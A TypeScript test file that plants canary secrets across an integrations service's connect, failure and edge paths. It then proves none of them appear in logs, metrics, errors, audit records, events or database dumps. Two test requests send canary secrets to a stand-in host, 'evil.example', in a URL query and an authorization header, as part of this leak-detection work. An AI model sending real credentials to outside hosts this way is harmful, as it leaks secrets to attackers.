import { randomBytes } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { type MessageInitShape, toJsonString } from '@bufbuild/protobuf';
import { ConnectError } from '@connectrpc/connect';
import { CredentialService } from '../../gen/mobius/integrations/internal/v1/credential_service_pb.js';
import { AuditService, ListAuditRecordsResponseSchema } from '../../gen/mobius/integrations/v1/audit_service_pb.js';
import {
  EventService,
  ListIntegrationEventsResponseSchema,
} from '../../gen/mobius/integrations/v1/event_service_pb.js';
import { AuthKind } from '../../gen/mobius/integrations/v1/integration_pb.js';
import {
  type ConnectProviderRequestSchema,
  IntegrationService,
} from '../../gen/mobius/integrations/v1/integration_service_pb.js';
import { findSecrets, linesOf, openSecretBook, type SecretBook } from '../../src/demo/secrets.ts';
import { networkFetch } from '../../src/outbound.ts';
import { providers } from '../../src/providers/index.ts';
import { connect, resolve } from '../connecting.ts';
import type { Ground, Stage } from '../ground.ts';
import { expect, expectEqual, type Guarantee } from '../guarantee.ts';
import { dumpDatabase } from '../places.ts';

const project = 'canary';
const life = 3_600_000;

export const secretCanary: Guarantee = {
  name: 'secret-canary',
  shows: 'secrets of every kind, on every way that fails, are in no log, metric, error, audit record, event or dump',
  prove: ground =>
    ground.stage({ processes: 2, withSandbox: true }, async stage => {
      const book = openSecretBook();
      const told: string[] = [];
      keepGiven(book, ground, stage);
      await goodWays(stage, book);
      await inlineWays(stage, book, told);
      await providerFailures(stage, book, told);
      await edgeWays(stage, book, told);
      for (const text of stage.vendor.issued) book.keepFields('token answer', JSON.parse(text));
      for (const refresh of stage.vendor.refreshes) book.keep('refresh token', refresh.refreshToken);

      const places = await collect(stage, told);
      const book2 = book.entries;
      expect(book2.size >= 60, `only ${book2.size} canaries`);
      expect(told.length >= 60, `only ${told.length} errors were answered`);
      await proveSearch(stage);
      const hits = findSecrets(book, places);
      expectEqual(
        hits.map(({ name, place }) => `${name} in ${place}`),
        [],
        'canaries found',
      );
      const kib = Math.round(Object.values(places).reduce((sum, text) => sum + text.length, 0) / 1024);
      return {
        canaries: book2.size,
        errors_answered: told.length,
        places: Object.keys(places).length,
        kib_searched: kib,
        hits: 0,
      };
    }),
};

/** Secrets that are there before anything happens. */
function keepGiven(book: SecretBook, { development }: Ground, { sandbox, vendor, token, databaseUrl }: Stage): void {
  book.keep('caller token', token);
  book.keep('database password', new URL(databaseUrl).password);
  const ring = JSON.parse(readFileSync(development.environment.MOBIUS_KEYRING ?? '', 'utf8')) as {
    keys: Record<string, string>;
  };
  for (const key of Object.values(ring.keys)) book.keep('keyring key', key);
  for (const { key } of [development.certificates.server, ...Object.values(development.certificates.clients)]) {
    for (const line of linesOf(readFileSync(key, 'utf8'))) book.keep('private key', line);
  }
  for (const [provider, seeds] of Object.entries(sandbox.seeds)) book.keepFields(provider, seeds);
  for (const line of linesOf(sandbox.seeds.github.privateKey)) book.keep('app private key', line);
  for (const line of linesOf(sandbox.seeds.google_sheets.serviceAccount.private_key))
    book.keep('service account key', line);
  for (const { app } of Object.values(vendor.settings)) book.keep('client secret', app.client_secret ?? '');
}

/** Every way to connect that works, a resolve of each, a refresh, a rotation. */
async function goodWays({ processes, sandbox }: Stage, book: SecretBook): Promise<void> {
  const [first] = processes;
  if (first === undefined) throw new Error('no process');
  const onCookie = (value: string): void => book.keep('cookie', value);
  for (const provider of ['jira', 'google_sheets', 'slack', 'github', 'linear'])
    await connect(first, project, { provider, onCookie });
  const integrations = first.rpc(IntegrationService);
  const { seeds } = sandbox;
  const inline: MessageInitShape<typeof ConnectProviderRequestSchema>[] = [
    { provider: 'linear', name: 'key', credentials: { api_key: seeds.linear.apiKey } },
    { provider: 'openai', credentials: { api_key: seeds.openai.projectKey } },
    {
      provider: 'google_sheets',
      name: 'account',
      authKind: AuthKind.SERVICE_ACCOUNT,
      credentials: { service_account_json: JSON.stringify(seeds.google_sheets.serviceAccount) },
    },
  ];
  for (const request of inline)
    await integrations.connectProvider({ project, ...request, name: request.name ?? 'inline' });
  await sandbox.deliver('slack', { event: 'message', to: first.addresses.edge });
  for (const provider of ['jira', 'slack', 'github', 'openai']) {
    const { credential } = await first.internal(CredentialService).resolveCredential({
      project,
      target: { case: 'provider', value: provider },
      purpose: 'proof.canary.run',
      runId: 'run_1',
    });
    for (const value of Object.values(credential?.headers ?? {}))
      book.keep(`${provider} header`, value.replace(/^\w+ /, ''));
  }
}

/** Values of no provider in every secret field of every form: refused by the schema, by the provider, or misplaced. */
async function inlineWays({ processes }: Stage, book: SecretBook, told: string[]): Promise<void> {
  const [first] = processes;
  if (first === undefined) throw new Error('no process');
  const integrations = first.rpc(IntegrationService);
  const { integrations: known } = await integrations.listIntegrations({ project });
  for (const provider of providers) {
    for (const method of provider.connect) {
      if (!('schema' in method)) continue;
      const { properties, required = [] } = method.schema as Form;
      const plain = Object.entries(properties).filter(
        ([name, { writeOnly }]) => writeOnly !== true && required.includes(name),
      );
      const config = Object.fromEntries(plain.map(([name, field]) => [name, sample(name, field)]));
      const request = { project, provider: provider.id, authKind: AuthKind[method.authKind], config };
      for (const [name, field] of Object.entries(properties)) {
        if (field.writeOnly !== true) continue;
        const fresh = (): string => {
          const value = canary(field.pattern);
          book.keep(`${provider.id} ${name}`, value);
          return value;
        };
        const others = () =>
          Object.fromEntries(
            required.filter(r => r !== name && properties[r]?.writeOnly === true).map(r => [r, fresh()]),
          );
        const integration = known.find(each => each.provider === provider.id)?.id ?? 'intg_none';
        await tell(told, integrations.connectProvider({ ...request, credentials: { ...others(), [name]: fresh() } }));
        await tell(
          told,
          integrations.connectProvider({ ...request, credentials: { ...others(), [name]: fresh().repeat(700) } }),
        );
        await tell(told, integrations.connectProvider({ ...request, credentials: { ...others(), [name]: [fresh()] } }));
        await tell(
          told,
          integrations.connectProvider({ ...request, credentials: { ...others(), [name]: fresh(), extra: fresh() } }),
        );
        await tell(
          told,
          integrations.connectProvider({ ...request, credentials: others(), config: { ...config, [name]: fresh() } }),
        );
        await tell(told, integrations.rotateCredential({ project, integration, credentials: { [name]: fresh() } }));
      }
    }
  }
}

/** The vendor says no, nothing, nonsense, and the token itself back. */
async function providerFailures(stage: Stage, book: SecretBook, told: string[]): Promise<void> {
  const { processes, vendor } = stage;
  const [first, second] = processes;
  if (first === undefined || second === undefined) throw new Error('no processes');
  const bodies = [
    (echo: string) => ({ status: 400, body: JSON.stringify({ error: 'invalid_request', error_description: echo }) }),
    (echo: string) => ({ status: 400, body: JSON.stringify({ error: echo }) }),
    (echo: string) => ({ status: 500, body: echo }),
    (echo: string) => ({ status: 429, body: echo, headers: { 'retry-after': echo } }),
    (echo: string) => ({ status: 200, body: `{"access_token": "${echo}"` }),
    (echo: string) => ({ status: 200, body: JSON.stringify({ access_token: echo, token_type: echo }) }),
    (echo: string) => ({ status: 200, body: JSON.stringify({ access_token: { echo } }) }),
    (echo: string) => ({ status: 401, body: JSON.stringify({ error: 'invalid_client', error_description: echo }) }),
    (echo: string) => ({ status: 400, body: JSON.stringify({ error: 'invalid_grant', error_description: echo }) }),
  ];
  for (const [i, body] of bodies.entries()) {
    const place = `${project}-${i}`;
    await connect(first, place);
    const fresh = canary();
    book.keep('echo of the provider', fresh);
    vendor.hold = { instead: ({ refreshToken }) => body(`${fresh} ${i % 2 === 0 ? refreshToken : fresh}`) };
    await Promise.all(processes.map(process => process.advance(life)));
    await tell(told, resolve(first, place));
    await tell(told, resolve(second, place));
    vendor.hold = {};
  }
}

/** What an outsider brings along. */
async function edgeWays({ processes, sandbox }: Stage, book: SecretBook, told: string[]): Promise<void> {
  const [first] = processes;
  if (first === undefined) throw new Error('no process');
  const { edge } = first.addresses;
  const fresh = (name: string): string => {
    const value = canary();
    book.keep(name, value);
    return value;
  };
  const sends: [string, RequestInit][] = [
    [`/v1/provider/jira/callback?code=${fresh('code')}&state=${fresh('state')}`, {}],
    [`/v1/provider/jira/callback?error=access_denied&error_description=${fresh('description')}&state=a.b.c.d`, {}],
    [`/v1/provider/jira/connect/${fresh('ticket')}`, {}],
    [`/v1/projects/${project}/integrations`, { headers: { authorization: `Bearer ${fresh('bearer')}` } }],
    [`/v1/projects/${project}/integrations`, { headers: { authorization: `Basic ${fresh('basic')}` } }],
    [`/v1/projects/${project}/integrations?access_token=${fresh('query token')}`, {}],
    [
      `/v1/projects/${project}/integrations/providers/linear/connect`,
      { method: 'POST', body: `{"credentials": {"api_key": "${fresh('broken json')}"` },
    ],
    [
      '/mobius.integrations.v1.IntegrationService/ConnectProvider',
      {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: `{"credentials": {"api_key": "${fresh('connect json')}"}, "x`,
      },
    ],
    [
      '/v1/provider/slack/webhook',
      {
        method: 'POST',
        headers: { 'x-slack-signature': fresh('signature'), 'x-slack-request-timestamp': '1' },
        body: '{}',
      },
    ],
    [
      '/v1/provider/jira/webhook',
      { method: 'POST', headers: { authorization: `JWT ${fresh('webhook token')}` }, body: '{}' },
    ],
    [
      '/v1/provider/clay/webhook',
      { method: 'POST', headers: { 'x-clay-webhook-auth': fresh('webhook header') }, body: '{}' },
    ],
  ];
  for (const [path, init] of sends) {
    const answer = await networkFetch(edge + path, { redirect: 'manual', ...init });
    told.push(`${answer.status} ${JSON.stringify([...answer.headers])} ${await answer.text()}`);
  }
  const payload = { bot: { access_token: fresh('secret in an event') } };
  await sandbox.deliver('slack', { event: 'app_mention', payload, to: edge });
  const target = { case: 'provider', value: 'jira' } as const;
  const asked = { project, target, purpose: 'proof.canary.run', runId: 'run_1', method: 'GET' };
  const send = first.internal(CredentialService);
  await tell(told, send.sendAuthorizedRequest({ ...asked, url: `https://evil.example/?k=${fresh('url')}` }));
  await tell(
    told,
    send.sendAuthorizedRequest({ ...asked, url: 'https://evil.example/', headers: { authorization: fresh('header') } }),
  );
}

async function collect({ processes, db }: Stage, told: readonly string[]): Promise<Record<string, string>> {
  const [first] = processes;
  if (first === undefined) throw new Error('no process');
  const audit: string[] = [];
  for (let pageToken = ''; ; ) {
    const page = await first.rpc(AuditService).listAuditRecords({ project, pageSize: 200, pageToken });
    audit.push(toJsonString(ListAuditRecordsResponseSchema, page));
    pageToken = page.nextPageToken;
    if (pageToken === '') break;
  }
  const events = await first.rpc(EventService).listIntegrationEvents({ project, pageSize: 200, includePayload: true });
  const metrics = await Promise.all(
    processes.map(async p => (await networkFetch(`http://${p.addresses.metrics}/metrics`)).text()),
  );
  const dump = await dumpDatabase(db);
  const places = {
    logs: processes.map(process => process.log()).join('\n'),
    metrics: metrics.join('\n'),
    errors: told.join('\n'),
    audit: audit.join('\n'),
    events: toJsonString(ListIntegrationEventsResponseSchema, events),
    'the dump': dump.text,
    'the bytes of the dump': dump.bytes,
  };
  // Each was read: what must stand in it does.
  const marks = {
    logs: 'ConnectProvider',
    metrics: 'mobius_rpc_calls_total',
    errors: 'linear',
    audit: project,
    events: 'slack',
    'the dump': project,
  } as const;
  for (const [place, mark] of Object.entries(marks))
    expect(places[place as keyof typeof marks].includes(mark), `${place} not read`);
  expect(dump.bytes.length > 1_000, 'nothing is sealed in the dump');
  return places;
}

/** The search finds each form, in a dump as well as in a text. */
async function proveSearch({ db }: Stage): Promise<void> {
  const probe = openSecretBook();
  const secret = canary();
  probe.keep('probe', secret);
  const bytes = Buffer.from(`x${secret}y`);
  const forms = [
    secret,
    encodeURIComponent(`?${secret}&`),
    bytes.toString('hex'),
    bytes.toString('base64'),
    bytes.toString('base64url'),
  ];
  for (const form of forms) {
    await db.query('create table probe as select $1::text as held', [form]);
    const dump = await dumpDatabase(db);
    await db.query('drop table probe');
    expect(findSecrets(probe, { dump: dump.text }).length === 1, `the search misses a form: ${form}`);
  }
}

type Field = { readonly writeOnly?: boolean; readonly pattern?: string };
type Form = { readonly properties: Readonly<Record<string, Field>>; readonly required?: readonly string[] };

/** A value like no other, in the form that the pattern asks for. */
function canary(pattern = ''): string {
  const value = `canary${randomBytes(18).toString('hex')}`;
  const prefix = /^\^\(?(ghp_|lin_api_|sk-|whsec_|xox)/.exec(pattern)?.[1] ?? '';
  return prefix === 'xox' ? `xoxb-${value}` : prefix + value;
}

function sample(name: string, { pattern = '' }: Field): string {
  if (name === 'email') return 'proof@example.com';
  if (pattern.startsWith('^https')) return 'https://api.clay.com/v3/sources/webhook/none';
  return pattern.includes('{8}') ? '1f0c7c0e-7a35-4e0a-9d43-6f2a8b1c5d11' : 'proof';
}

/** Keeps all that an error answers: message, details with their bytes, headers and trailers. */
async function tell(told: string[], call: Promise<unknown>): Promise<void> {
  try {
    await call;
    told.push('OK');
  } catch (error) {
    if (!(error instanceof ConnectError)) throw error;
    const details = error.details.map(detail =>
      'value' in detail ? Buffer.from(detail.value as Uint8Array).toString('latin1') : JSON.stringify(detail),
    );
    told.push([error.message, ...details, JSON.stringify([...error.metadata])].join(' '));
  }
}
